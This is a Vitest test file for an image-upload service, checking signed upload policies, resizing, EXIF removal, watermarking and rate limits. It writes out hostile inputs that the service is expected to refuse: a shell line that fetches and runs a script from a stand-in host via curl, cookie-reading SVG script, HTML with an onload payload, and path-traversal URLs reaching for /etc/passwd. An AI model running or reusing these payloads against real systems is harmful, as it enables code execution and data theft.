import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import sharp from 'sharp';
import { eq } from 'drizzle-orm';
import { IMAGE_MAX_BYTES, UPLOAD_POLICY_TTL_SECONDS } from '@lantern/domain';
import type { UploadResult, UploadToken } from '@lantern/contract';
import { HOSTS } from '../support/harness.ts';
import { uploadForm } from '../support/upload-form.ts';
import { makeAccount } from '../support/catalog-factories.ts';
import { findUploads } from '../../src/modules/uploads/index.ts';
import { uploads } from '../../src/modules/uploads/tables.ts';
import { useTestApp } from '../support/test-app.ts';

const { t, api } = useTestApp();

type Area = 'native' | 'abroad';

async function tokenFor(user: { token: string }, area: Area = 'native', path = '/api/cloud_storages/new'): Promise<UploadToken> {
  const res = await api[area].get(path, { token: user.token });
  expect(res.statusCode, res.body).toBe(200);
  return res.json();
}

const policyFields = (token: UploadToken) => ({ policy: token.policy, signature: token.signature, accessid: token.accessid, key: `${token.dir}photo`, account_id: String(token.account_id) });

async function post(area: Area, fields: Record<string, string>, file: { name: string; type: string; body: Buffer }, headers: Record<string, string> = {}) {
  const { payload, contentType } = uploadForm(fields, file);
  return t.app.inject({ method: 'POST', url: '/uploads', headers: { host: HOSTS[area], 'content-type': contentType, ...headers }, payload });
}

async function upload(user: { token: string }, file: { name: string; type: string; body: Buffer }, area: Area = 'native') {
  return post(area, policyFields(await tokenFor(user, area)), file);
}

/** A picture with detail (a gradient and a square), so resizing and the watermark show in its pixels. */
const picture = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#2f6f9f' } })
  .composite([{ input: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><rect x="10" y="10" width="${Math.floor(width / 3)}" height="${Math.floor(height / 3)}" fill="#f0c040"/></svg>`) }]);
const png = (w = 640, h = 480) => picture(w, h).png().toBuffer();

async function fetchStored(url: string) {
  const res = await t.app.inject({ method: 'GET', url, headers: { host: HOSTS.native } });
  return res;
}

describe('upload tokens', () => {
  it('answers guests 401 on all three token calls', async () => {
    for (const path of ['/api/cloud_storages/new', '/api/cloud_storage', '/api/cloud_storage/new', '/api/cloud_storage.json']) {
      const res = await api.native.get(path);
      expect(res.statusCode, path).toBe(401);
    }
  });

  it('issues a signed, expiring policy with the spec\'s fields for the signed-in account', async () => {
    const user = await makeAccount(t);
    const token = await tokenFor(user, 'native', '/api/cloud_storage/new?for=review');
    expect(token).toMatchObject({ account_id: user.id, dir: `u/${user.id}/review/`, bucket_name: 'local', security_token: null });
    expect(token.host).toMatch(/\/uploads$/);
    for (const name of ['callback', 'accessid', 'policy', 'signature'] as const) expect(token[name]).not.toBe('');
    const now = Math.floor(t.clock.now().getTime() / 1000);
    expect(token.timestamp - now).toBe(UPLOAD_POLICY_TTL_SECONDS);
    const policy = JSON.parse(Buffer.from(token.policy, 'base64').toString('utf8'));
    expect(policy).toMatchObject({ account_id: user.id, area: 'native', dir: token.dir });
    const res = await api.native.get('/api/cloud_storage', { token: user.token });
    expect(res.headers['cache-control']).toContain('no-store');
    expect((await api.native.get('/api/cloud_storage/new?for=nothing', { token: user.token })).statusCode).toBe(422);
  });
});

describe('POST /uploads: accepted images', () => {
  it('stores a PNG in three sizes, records it and serves it back as an image only', async () => {
    const user = await makeAccount(t);
    const res = await upload(user, { name: 'wide.png', type: 'image/png', body: await picture(3000, 1500).png().toBuffer() });
    expect(res.statusCode, res.body).toBe(201);
    const body: UploadResult = res.json();
    expect(body).toMatchObject({ mime: 'image/png', width: 2048, height: 1024, watermarked: false, area: 'native' });
    expect(body.sizes.map((s) => [s.name, s.width, s.height])).toEqual([['original', 2048, 1024], ['large', 1024, 512], ['thumb', 320, 160]]);
    expect(body.url).toBe(body.sizes[0]!.url);
    expect(body.url).toMatch(new RegExp(`^/uploads/u/${user.id}/post/[0-9a-f]{20}/original\\.png$`));

    const [row] = await t.deps.db.select().from(uploads).where(eq(uploads.id, body.id));
    expect(row).toMatchObject({ accountId: user.id, key: body.key, mime: 'image/png', area: 'native' });
    expect(row!.bytes).toBeGreaterThan(0);

    const served = await fetchStored(body.sizes[2]!.url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toContain('sandbox');
    expect(served.headers['set-cookie']).toBeUndefined();
    const meta = await sharp(served.rawPayload).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['png', 320, 160]);
  });

  it('never enlarges a small picture', async () => {
    const user = await makeAccount(t);
    const res = await upload(user, { name: 'small.png', type: 'image/png', body: await png(200, 100) });
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().sizes.map((s: { width: number }) => s.width)).toEqual([200, 200, 200]);
  });

  it('removes EXIF, its GPS position included, from a JPEG and turns it upright first', async () => {
    const user = await makeAccount(t);
    const jpeg = await picture(600, 400).jpeg()
      .withExif({ IFD0: { Make: 'SpyCam', Copyright: 'Somebody' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '39/1 54/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '116/1 23/1 0/1' } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const before = await sharp(jpeg).metadata();
    expect(before.exif?.toString('latin1')).toContain('SpyCam');
    expect(before.orientation).toBe(6);

    const res = await upload(user, { name: 'holiday.jpg', type: 'image/jpeg', body: jpeg });
    expect(res.statusCode, res.body).toBe(201);
    const body: UploadResult = res.json();
    expect(body).toMatchObject({ mime: 'image/jpeg', width: 400, height: 600 });
    for (const size of body.sizes) {
      const stored = await fetchStored(size.url);
      expect(stored.headers['content-type']).toBe('image/jpeg');
      const meta = await sharp(stored.rawPayload).metadata();
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(stored.rawPayload.toString('latin1')).not.toContain('SpyCam');
    }
  });

  it('accepts WebP and keeps an animated GIF\'s frames', async () => {
    const user = await makeAccount(t);
    const webp = await upload(user, { name: 'a.webp', type: 'image/webp', body: await picture(300, 200).webp().toBuffer() });
    expect(webp.statusCode, webp.body).toBe(201);
    expect(webp.json()).toMatchObject({ mime: 'image/webp', width: 300, height: 200 });

    const frames = await Promise.all(['#ff0000', '#0000ff', '#00ff00'].map((c) => sharp({ create: { width: 400, height: 300, channels: 4, background: c } }).png().toBuffer()));
    const gif = await sharp(frames, { join: { animated: true } }).gif().toBuffer();
    const res = await upload(user, { name: 'a.gif', type: 'image/gif', body: gif });
    expect(res.statusCode, res.body).toBe(201);
    const body: UploadResult = res.json();
    expect(body).toMatchObject({ mime: 'image/gif', width: 400, height: 300 });
    const thumb = await fetchStored(body.sizes[2]!.url);
    const meta = await sharp(thumb.rawPayload, { animated: true }).metadata();
    expect([meta.format, meta.pages, meta.width, meta.pageHeight]).toEqual(['gif', 3, 320, 240]);
  });
});

describe('POST /uploads: refused files', () => {
  it('refuses a file over 4 MB with 413', async () => {
    const user = await makeAccount(t);
    const big = Buffer.concat([await png(), randomBytes(IMAGE_MAX_BYTES)]);
    const res = await upload(user, { name: 'big.png', type: 'image/png', body: big });
    expect(res.statusCode).toBe(413);
    expect(res.json().errors).toEqual({ file: ['too_large'] });
  });

  it('judges by content, not name: a script named .png is a format error (400)', async () => {
    const user = await makeAccount(t);
    const res = await upload(user, { name: 'cat.png', type: 'image/png', body: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n<script>alert(1)</script>\n') });
    expect(res.statusCode).toBe(400);
    expect(res.json().errors).toEqual({ file: ['format_invalid'] });
    const html = await upload(user, { name: 'page.jpg', type: 'image/jpeg', body: Buffer.from('<!doctype html><html><body onload="alert(1)"></body></html>') });
    expect(html.statusCode).toBe(400);
  });

  it('refuses SVG, which can carry script, as a file format error (403), whatever it is called', async () => {
    const user = await makeAccount(t);
    const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>');
    for (const file of [{ name: 'x.svg', type: 'image/svg+xml', body: svg }, { name: 'x.png', type: 'image/png', body: svg }]) {
      const res = await upload(user, file);
      expect(res.statusCode, file.name).toBe(403);
      expect(res.json().errors).toEqual({ file: ['format_invalid'] });
    }
    const tiff = await upload(user, { name: 'x.tif', type: 'image/tiff', body: await picture(20, 20).tiff().toBuffer() });
    expect(tiff.statusCode).toBe(403);
  });

  it('refuses a truncated image as a format error, not a server error', async () => {
    const user = await makeAccount(t);
    const whole = await png(400, 300);
    const res = await upload(user, { name: 'cut.png', type: 'image/png', body: whole.subarray(0, 120) });
    expect(res.statusCode).toBe(400);
  });

  it('records nothing and stores nothing for refused files', async () => {
    const user = await makeAccount(t);
    await upload(user, { name: 'cat.png', type: 'image/png', body: Buffer.from('not an image at all') });
    expect(await t.deps.db.select().from(uploads).where(eq(uploads.accountId, user.id))).toEqual([]);
  });
});

describe('POST /uploads: the policy', () => {
  const image = async () => ({ name: 'p.png', type: 'image/png', body: await png(64, 64) });

  it('wants a credential (401), a true signature (403) and an unchanged policy (403)', async () => {
    const user = await makeAccount(t);
    const token = await tokenFor(user);
    const missing = await post('native', {}, await image());
    expect(missing.statusCode).toBe(401);

    const forged = await post('native', { ...policyFields(token), signature: token.signature.replace(/^./, (c) => (c === 'A' ? 'B' : 'A')) }, await image());
    expect(forged.statusCode).toBe(403);
    expect(forged.json().errors).toEqual({ policy: ['signature_invalid'] });

    // Another account's folder written into the policy: the signature no longer covers it.
    const other = await makeAccount(t);
    const altered = JSON.parse(Buffer.from(token.policy, 'base64').toString('utf8'));
    altered.account_id = other.id;
    altered.dir = `u/${other.id}/post/`;
    const res = await post('native', { ...policyFields(token), policy: Buffer.from(JSON.stringify(altered)).toString('base64') }, await image());
    expect(res.statusCode).toBe(403);
  });

  it('refuses an expired policy with 403 expired', async () => {
    const user = await makeAccount(t);
    const token = await tokenFor(user);
    t.clock.advance(UPLOAD_POLICY_TTL_SECONDS + 1);
    const res = await post('native', policyFields(token), await image());
    expect(res.statusCode).toBe(403);
    expect(res.json().errors).toEqual({ policy: ['expired'] });
  });

  it('refuses another account\'s policy: a signed-in stranger, a changed account_id or key, the other site', async () => {
    const owner = await makeAccount(t);
    const stranger = await makeAccount(t);
    const token = await tokenFor(owner);
    const asStranger = await post('native', policyFields(token), await image(), { authorization: `Bearer ${stranger.token}` });
    expect(asStranger.statusCode).toBe(403);
    expect((await post('native', { ...policyFields(token), account_id: String(stranger.id) }, await image())).statusCode).toBe(403);
    expect((await post('native', { ...policyFields(token), key: `u/${stranger.id}/post/x` }, await image())).statusCode).toBe(403);
    expect((await post('abroad', policyFields(token), await image())).statusCode).toBe(403);
    // The owner, signed in or not, may use it.
    expect((await post('native', policyFields(token), await image(), { authorization: `Bearer ${owner.token}` })).statusCode).toBe(201);
  });

  it('limits uploads per account and hour (429 rate_limit)', async () => {
    const user = await makeAccount(t);
    for (let i = 0; i < t.deps.config.UPLOADS_PER_ACCOUNT_PER_HOUR; i++) await t.deps.limiter.hit(`uploads:${user.id}`, 1_000_000, 3600);
    const res = await upload(user, await image());
    expect(res.statusCode).toBe(429);
    expect(res.json().errors).toEqual({ base: ['rate_limit'] });
    expect((await upload(await makeAccount(t), await image())).statusCode).toBe(201);
  });
});

describe('the watermark', () => {
  const pixels = async (url: string) => sharp((await fetchStored(url)).rawPayload).raw().toBuffer();

  it('is a setting of the account, shown in /api/me configs', async () => {
    const user = await makeAccount(t);
    expect((await api.native.get('/api/me', { token: user.token })).json().configs).toContainEqual({ kind: 'upload', key: 'water_mark', value: 'close' });
    const res = await api.native.patch('/api/me', { account: { water_mark: true } }, { token: user.token });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().configs).toContainEqual({ kind: 'upload', key: 'water_mark', value: 'open' });
  });

  it('is drawn for an account of the region cn that turned it on, on either site, and for no other region', async () => {
    const marked = await makeAccount(t, { area: 'native' });
    await api.native.patch('/api/me', { account: { water_mark: true } }, { token: marked.token });
    const plain = await makeAccount(t, { area: 'native' });
    const markedAbroad = await makeAccount(t, { area: 'abroad' });
    await api.abroad.patch('/api/me', { account: { water_mark: true } }, { token: markedAbroad.token });
    const markedHk = await makeAccount(t, { area: 'native', region: 'hk' });
    await api.native.patch('/api/me', { account: { water_mark: true } }, { token: markedHk.token });
    const cnOnAbroad = await makeAccount(t, { area: 'abroad', region: 'cn' });
    await api.abroad.patch('/api/me', { account: { water_mark: true } }, { token: cnOnAbroad.token });
    const body = await png(800, 600);
    const file = { name: 'w.png', type: 'image/png', body };

    const withMark: UploadResult = (await upload(marked, file, 'native')).json();
    const without: UploadResult = (await upload(plain, file, 'native')).json();
    const abroad: UploadResult = (await upload(markedAbroad, file, 'abroad')).json();
    const hk: UploadResult = (await upload(markedHk, file, 'native')).json();
    // The cn account's watermark follows it to the international site: the region decides, not the site.
    const cnAbroad: UploadResult = (await upload(cnOnAbroad, file, 'abroad')).json();
    expect([withMark.watermarked, without.watermarked, abroad.watermarked, hk.watermarked, cnAbroad.watermarked]).toEqual([true, false, false, false, true]);

    const [a, b, c] = await Promise.all([withMark, without, abroad].map((u) => pixels(u.url)));
    expect(a!.equals(b!)).toBe(false);
    expect(b!.equals(c!)).toBe(true);
    // Drawn at the bottom right: the top left is untouched.
    const topLeft = async (u: UploadResult) => sharp((await fetchStored(u.url)).rawPayload).extract({ left: 0, top: 0, width: 200, height: 200 }).raw().toBuffer();
    expect((await topLeft(withMark)).equals(await topLeft(without))).toBe(true);
  });

  it('escapes the nickname it draws', async () => {
    const user = await makeAccount(t);
    await api.native.patch('/api/me', { account: { water_mark: true, nickname: '<b>&"x' } }, { token: user.token });
    const res = await upload(user, { name: 'n.png', type: 'image/png', body: await png(400, 300) });
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json().watermarked).toBe(true);
  });
});

describe('findUploads', () => {
  it('answers which URLs are this account\'s own uploads, in their order', async () => {
    const owner = await makeAccount(t);
    const other = await makeAccount(t);
    const mine: UploadResult = (await upload(owner, { name: 'm.png', type: 'image/png', body: await png(100, 100) })).json();
    const theirs: UploadResult = (await upload(other, { name: 't.png', type: 'image/png', body: await png(100, 100) })).json();
    const absolute = `${t.deps.config.siteUrls.abroad}${mine.sizes[1]!.url}`;
    const urls = [
      'https://evil.example/uploads/' + mine.key + '/original.png',
      theirs.url,
      mine.sizes[2]!.url,
      absolute,
      `${mine.key}/original.png`,
      `/uploads/${mine.key}/original.gif`,
      mine.url,
    ];
    expect(await findUploads(t.deps, owner.id, urls)).toEqual([mine.sizes[2]!.url, absolute, mine.url]);
    expect(await findUploads(t.deps, other.id, urls)).toEqual([theirs.url]);
    expect(await findUploads(t.deps, owner.id, [])).toEqual([]);
  });
});

describe('GET /uploads/{key}', () => {
  it('answers 404 for unknown keys, other file types and paths that try to leave the store', async () => {
    for (const url of ['/uploads/u/1/post/00000000000000000000/original.png', '/uploads/u/1/post/x/original.html', '/uploads/..%2F..%2Fpackage.json', '/uploads/u/../../etc/passwd']) {
      const res = await fetchStored(url);
      expect(res.statusCode, url).toBe(404);
    }
  });
});
